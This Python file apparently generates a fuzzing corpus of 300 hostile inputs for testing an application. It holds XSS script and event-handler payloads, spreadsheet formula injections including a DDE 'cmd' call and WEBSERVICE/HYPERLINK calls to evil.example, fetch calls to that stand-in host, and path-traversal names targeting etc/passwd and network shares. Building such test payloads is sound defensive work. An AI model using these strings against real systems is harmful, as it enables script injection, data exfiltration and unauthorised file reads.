"""300 things that somebody may try: scripts, formulas, names of files; a hundred of each."""

from __future__ import annotations

import itertools

_RUN = ("alert(1)", "window.__ran=1", "fetch('//evil.example')", "document.title='x'")
_SCRIPTS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "<img src=x onerror={0}>",
    '"><img src=x onerror="{0}">',
    "' onmouseover='{0}",
    '" autofocus onfocus="{0}" x="',
    "<svg onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<details open ontoggle={0}>",
    "<a href='javascript:{0}'>x</a>",
    "<body onload={0}>",
    "<math><mtext><script>{0}</script></mtext></math>",
    "<style>@import 'javascript:{0}';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href='//evil.example'><script>{0}</script>",
    "{{{{ ''.__class__.__mro__ }}}}<script>{0}</script>",
    "{{% raw %}}<script>{0}</script>",
    "<!--><script>{0}</script>-->",
    "<div hx-get='/runs' hx-trigger='load' onclick='{0}'>x</div>",
    "<form action='javascript:{0}'><input type=submit autofocus>",
    "<object data='javascript:{0}'></object>",
    "\u2028<script>{0}</script>\u2029",
)
_CALLS = (
    'HYPERLINK("http://evil.example","x")',
    "cmd|'/C calc'!A0",
    'WEBSERVICE("http://evil.example")',
    "1+1",
    "SUM(A1:A9)",
)
_BEFORE = ("=", "+", "-", "@", " =", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "\u200b=", "  -",
           "\ufeff=", "=-", "+@", "-+", "@=", "\xa0=")  # fmt: skip
_UP = ("../", "..\\", "../../", "..\\..\\", "/", "C:\\", "\\\\host\\share\\", "....//", "%2e%2e/",
       "./", "~/", "file:///", "\x00/", "a/../../", "..;/", "%00", "\u202e", "nul\\", "con:",
       "..")  # fmt: skip
_TARGETS = ("etc/passwd", "bothsides.db", "a.csv", "<img src=x onerror=alert(1)>.csv", "x.csv.lock")

SCRIPTS = [shape.format(run) for shape, run in itertools.product(_SCRIPTS, _RUN)]
FORMULAS = [before + call for before, call in itertools.product(_BEFORE, _CALLS)]
PATHS = [up + target for up, target in itertools.product(_UP, _TARGETS)]
assert [len(kind) for kind in (SCRIPTS, FORMULAS, PATHS)] == [100, 100, 100]
PAYLOADS = [*SCRIPTS, *FORMULAS, *PATHS]
